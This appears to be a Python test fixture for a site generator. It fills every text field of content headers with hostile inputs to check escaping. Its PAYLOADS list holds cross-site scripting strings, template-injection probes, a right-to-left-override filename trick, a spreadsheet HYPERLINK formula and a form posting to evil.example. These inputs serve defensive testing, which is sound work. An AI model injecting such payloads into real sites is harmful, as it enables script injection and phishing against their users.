"""Headers in which every field that takes a text holds a hostile one, whatever kinds there are."""

import re
from collections.abc import Iterator, Mapping
from typing import Any

from generator.fields import (
    DownloadType,
    FieldType,
    Group,
    ListOf,
    LocalFile,
    Reading,
    Refused,
    WebAddress,
    specs_of,
)
from generator.kinds import Kind
from generator.marked_yaml import Mark, Scalar
from generator.problems import Problems

PAYLOADS = (
    '"><script>alert(1)</script>',
    "'\"><img src=x onerror=alert(1)>",
    "</title></style><svg onload=alert(1)>",
    "]]></description><script>alert(1)</script>",
    "{{7*7777}}{% raw %}{% include 'x' %}${7*7777}",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;script&#62;",
    "javascript:alert(1)",
    "\u202egnp.exe\u2066 <b onclick=alert(1)>",
    '=HYPERLINK("https://evil.example/","x")',
    "--><iframe srcdoc='<script>alert(1)</script>'></iframe><!--",
    "</textarea></noscript></template><form action=//evil.example><input name=q autofocus>",
    "x' onmouseover='alert(1)' style='position:fixed",
)
BENIGN = "Plain words"
FILE = "it's &lt;b&gt; (1).pdf"
"""A file beside every entry, with a name as strange as it may be."""

_LENGTHS = (600, 300, 200, 120, 60, 40)
_MARK = Mark(1, 1)
_NOT_FORGED = set("type status end exclude date start timezone size agenda new_tags".split())
"""Fields that decide whether the entry is shown at all, exclude another, or name tags there are."""


def header(kind: Kind, path: str, payload: str, number: int) -> dict[str, Any]:
    """Return a header of a kind with a payload in every field that takes it."""
    targets = {"event": "webinars/target.md"}
    return {"type": kind.name, **fields_of(kind.record, path, payload, number, targets)}


def fields_of(
    record: type[object],
    path: str,
    payload: str,
    number: int = 0,
    targets: Mapping[str, str] | None = None,
) -> dict[str, Any]:
    """Return values for all fields of a record, hostile where its types allow that."""
    found: dict[str, Any] = {}
    for spec in specs_of(record):
        if spec.key == "type":
            continue
        text = spec.type.example if spec.key in _NOT_FORGED else payload
        if spec.key in _NOT_FORGED and not spec.required and spec.key != "timezone":
            continue
        value = _value(spec.type, path, text, number, (targets or {}).get(spec.key, ""))
        if value is not None:
            found[spec.key] = value
    return found


def _value(type_: FieldType, path: str, payload: str, number: int, target: str) -> Any:
    if isinstance(type_, ListOf):
        first = _value(type_.item, path, payload, number, target)
        second = _value(type_.item, path, f"{payload} 2", number + 5_000, target)
        return [first] if first == second else [first, second]
    if isinstance(type_, Group):
        return fields_of(type_.record, path, payload, number)
    if isinstance(type_, LocalFile):
        return FILE
    if isinstance(type_, DownloadType):
        return {"url": _value(WebAddress(), path, payload, number, ""), "size": "2 MB"}
    candidates = _candidates(payload, number, target)
    return next((text for text in [*candidates, type_.example] if _takes(type_, text, path)), None)


def _candidates(payload: str, number: int, target: str) -> Iterator[str]:
    """Yield a payload in all the forms that some field may take."""
    if target:
        yield target
    bare = re.sub(r"[,;]", "", payload)
    for length in _LENGTHS:
        yield (payload + " ") * 3 if len(payload) * 3 + 3 < length else payload[:length]
        yield bare[:length]
    squeezed = re.sub(r"\s", "", payload)
    yield f"10.1000/{number}{squeezed}"
    yield f"12:30 {payload}"
    in_address = re.sub(r"[\s<>\"\\^`{|}\x00-\x20]", "", payload)
    yield f"https://example.org/{number}?q='{in_address}&x=%22%3E%3Cscript%3Ealert(1)%3C/script%3E"
    yield f"/old/{number}-'{re.sub(r'[?#:*%]', '', in_address).replace('//', '/')}/"


def _takes(type_: FieldType, text: str, path: str) -> bool:
    problems = Problems()
    try:
        type_.read(Scalar(text, _MARK, plain=False), Reading(path, problems))
    except Refused:
        return False
    return True
